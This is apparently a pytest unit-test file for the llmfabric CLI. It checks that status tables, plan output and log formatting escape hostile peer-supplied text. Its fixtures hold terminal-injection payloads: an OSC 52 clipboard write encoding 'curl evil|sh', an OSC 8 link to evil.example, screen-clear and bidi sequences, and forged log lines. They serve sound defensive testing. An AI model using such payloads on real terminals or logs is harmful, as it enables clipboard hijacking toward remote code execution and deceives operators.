"""What a terminal and a log see of text that others wrote: a hostile member's model names,
labels, provider and hardware strings; a peer's error text; a client's model name in the
ingress trace. None may drive the terminal (ESC/OSC sequences: colours, hyperlinks, OSC 52
clipboard writes), forge a line (CR, LF), reorder text (bidi overrides), or be read as rich
markup (a "[/]" that crashes the command, a "[link=...]")."""

from __future__ import annotations

import io
import logging
import re
import sys
import time
import traceback
from pathlib import Path
from typing import Any

import pytest

from llmfabric.cli.console import table_console

pytestmark = [pytest.mark.unit, pytest.mark.hostile]

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\"  # a hyperlink
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e"
FORGED = "\n2026-12-02 12:00:00,000 ERROR llmfabric.node: forged"


def _render(renderable: Any) -> str:
    out = io.StringIO()
    table_console(file=out).print(renderable)
    return out.getvalue()


def _node(**over: Any) -> dict[str, Any]:
    node = {"session_id": "af13b843aaaa", "state": "SERVING", "suspected": False,
            "roles": [], "provider_id": "fabric", "engine": "vllm",
            "hardware": {"gpu_count": 1, "gpu_model": "H100"},
            "models": [{"id": "llama-3.1-8b"}], "load": {"inflight": 0}, "labels": {},
            "relays": [], "peer_addrs": ["127.0.0.1:14729"], "last_seen": time.time()}
    node.update(over)
    return node


def _no_controls(text: str) -> None:
    assert "\x1b" not in text and BIDI not in text and "\r" not in text


def test_status_tables_escape_terminal_sequences(monkeypatch: pytest.MonkeyPatch) -> None:
    from llmfabric.cli.status import models_table, nodes_table

    monkeypatch.delenv("COLUMNS", raising=False)
    hostile = _node(provider_id=f"p{BIDI}x", engine=CLEAR + "vllm",
                    hardware={"gpu_count": 1, "gpu_model": OSC8 + "H100"},
                    models=[{"id": "m" + OSC52}], labels={"site": "a" + FORGED})
    out = _render(nodes_table([hostile, _node()]))
    _no_controls(out)
    assert "m\\x1b]52;c;" in out and "\\u202e" in out
    # The label's newline does not open a second row that reads as another node:
    assert sum("SERVING" in ln for ln in out.splitlines()) == 2
    assert "site=a\\n2026-12-02" in out
    models = _render(models_table([{"id": "m" + OSC52, "serving": 1, "nodes": ["s"],
                                    "providers": [f"p{BIDI}"], "gpus": [OSC8 + "H100"],
                                    "quantizations": ["bf16"], "max_context": 4096}]))
    _no_controls(models)


def test_honest_names_print_as_before(monkeypatch: pytest.MonkeyPatch) -> None:
    from llmfabric.cli.status import nodes_table

    monkeypatch.delenv("COLUMNS", raising=False)
    out = _render(nodes_table([_node(labels={"région": "zürich"})]))
    assert "llama-3.1-8b" in out and "région=zürich" in out and "\\" not in out


def _plan_doc(model: str, unserved: dict[str, float], notes: list[str]) -> dict[str, Any]:
    return {"policy": "greedy", "status": "FEASIBLE", "source": None,
            "groups": [{"model": model, "gpu": "H100", "running": False, "tp": 1, "dp": 1,
                        "gpus": 1, "load_share": 1.0}],
            "mean_latency_s": None, "gap": None, "unserved": unserved, "notes": notes}


def test_plan_prints_trace_model_names_as_text(capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """`plan --workload-trace traces/ingress.jsonl`: the trace's model names are the names
    clients asked for and a member published. The simulator knows "x/llama-3.1-8b-Instruct"
    (it strips the path and the suffix), so a hostile name reaches the table too."""
    from llmfabric.cli.plan import _table

    monkeypatch.delenv("COLUMNS", raising=False)
    link = "[link=https://evil.example/x]/llama-3.1-8b-Instruct"
    _table(_plan_doc(link, {"[/]" + OSC52: 0.5},
                     ["[/] (1 req/s in the trace) is unknown to the simulator; left out"]))
    out = capsys.readouterr().out
    _no_controls(out)
    assert link in out  # the markup is printed, not made a hyperlink
    assert "[/]\\x1b]52" in out and "note: [/] (1 req/s" in out


def test_plan_net_escapes_what_the_fabric_reported(capsys: pytest.CaptureFixture[str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """`plan net --from-fabric URL` echoes why nodes were left out: a peer's link-table
    error text among them."""
    from llmfabric.cli import netplan
    from llmfabric.scheduler.netplan import from_fabric

    class _Ft:
        topology = None
        skipped = [f"nabc: its link table: boom{FORGED}{OSC52}"]

    monkeypatch.setattr(from_fabric, "fetch_fabric", lambda *a, **k: _Ft())
    monkeypatch.setattr(from_fabric, "summary", lambda ft: [])
    netplan._fabric_topology("http://x", None, None, None)
    err = capsys.readouterr().err
    _no_controls(err)
    assert err.count("\n") == 1 and "boom\\n2026-12-02" in err


def _formatted(exc: BaseException | None, msg: str, *args: Any) -> str:
    from llmfabric.cli.untrusted import LogFormatter

    ei = (type(exc), exc, exc.__traceback__) if exc is not None else None
    record = logging.LogRecord("llmfabric.net.serving", logging.ERROR, __file__, 1, msg, args,
                               ei)
    return LogFormatter("%(levelname)s %(name)s: %(message)s").format(record)


def test_log_lines_cannot_be_forged_or_drive_the_terminal() -> None:
    line = _formatted(None, "request handler failed for %s %s from %s", "POST",
                      "/v1/x" + FORGED + CLEAR, "peer")
    assert "\n" not in line and "\x1b" not in line
    assert line.startswith("ERROR llmfabric.net.serving: request handler failed for POST "
                           "/v1/x\\n2026-12-02")
    try:
        raise ValueError("peer said: no" + FORGED + OSC52)
    except ValueError as exc:
        text = _formatted(exc, "handler failed")
    _no_controls(text)
    lines = text.splitlines()
    assert lines[1] == "Traceback (most recent call last):"
    assert re.match(r'  File ".*", line \d+, in test_log_lines', lines[2])
    assert lines[-1].startswith("ValueError: peer said: no\\n2026-12-02")
    assert not any(ln.startswith("2026-12-02") for ln in lines)


def test_honest_log_lines_are_unchanged() -> None:
    plain = logging.Formatter("%(levelname)s %(name)s: %(message)s")
    try:
        raise KeyError("llama-3.1-8b")
    except KeyError as exc:
        ei = (KeyError, exc, exc.__traceback__)
        record = logging.LogRecord("x", logging.ERROR, __file__, 1, "zürich %s", ("ok",), ei)
        ours = _formatted(exc, "zürich %s", "ok").replace("llmfabric.net.serving", "x")
        assert ours == plain.format(record)


def test_cli_processes_log_through_the_formatter() -> None:
    """Every CLI process that sets up logging does so through configure_logging."""
    cli = Path(sys.modules["llmfabric.cli.console"].__file__ or "").parent
    calls = [p.name for p in cli.glob("*.py") if "logging.basicConfig(" in p.read_text()]
    assert calls == ["untrusted.py"]


def test_a_log_message_is_clipped_not_its_traceback() -> None:
    """An engine's or peer's error text can be megabytes: one log line carries at most 8 KiB
    of it (and says how much more there was); our traceback's frames are kept whole, the
    exception's message is clipped too."""
    from llmfabric.untrusted import MESSAGE_CAP

    huge = "E" * (MESSAGE_CAP * 128)
    line = _formatted(None, "engine said: %s", huge)
    assert len(line) < MESSAGE_CAP + 200
    assert line.endswith(f" ... [{len(huge) + len('engine said: ') - MESSAGE_CAP} "
                         "more characters]")

    def deep(n: int) -> None:
        if n == 0:
            raise RuntimeError("peer answered: " + huge)
        deep(n - 1)

    try:
        deep(40)
    except RuntimeError as exc:
        text = _formatted(exc, "relay failed: %s", huge)
        frames = traceback.format_exception(exc)[:-1]
    lines = text.splitlines()
    assert len(text) < 3 * MESSAGE_CAP + 40 * 200
    assert "".join(frames).rstrip("\n") in text  # the frames are all there, as they were
    assert lines[-1].startswith("RuntimeError: peer answered: EEE")
    assert lines[-1].endswith("more characters]")


def test_an_exception_group_s_messages_cannot_forge_lines() -> None:
    """Inside an exception group the traceback module lays out each sub-exception behind a
    "    | " margin, a message's newline included: escaped before the layout, it stays in
    its line."""
    try:
        raise ExceptionGroup("grp" + FORGED, [ValueError("peer: no" + FORGED + OSC52),
                                              KeyError("k")])
    except ExceptionGroup as exc:
        text = _formatted(exc, "tasks failed")
    _no_controls(text)
    lines = text.splitlines()
    assert not any("2026-12-02 12:00:00,000 ERROR" in ln.split("\\n")[0] for ln in lines)
    assert any(ln.strip(" |").startswith("ValueError: peer: no\\n2026-12-02") for ln in lines)
    assert any(ln.strip(" |").startswith("ExceptionGroup: grp\\n2026-12-02") for ln in lines)


def test_exception_notes_cannot_forge_lines() -> None:
    try:
        exc = ValueError("no")
        exc.add_note("from peer" + FORGED)
        raise exc
    except ValueError as e:
        text = _formatted(e, "failed")
    assert text.splitlines()[-1] == "from peer" + FORGED.replace("\n", "\\n")
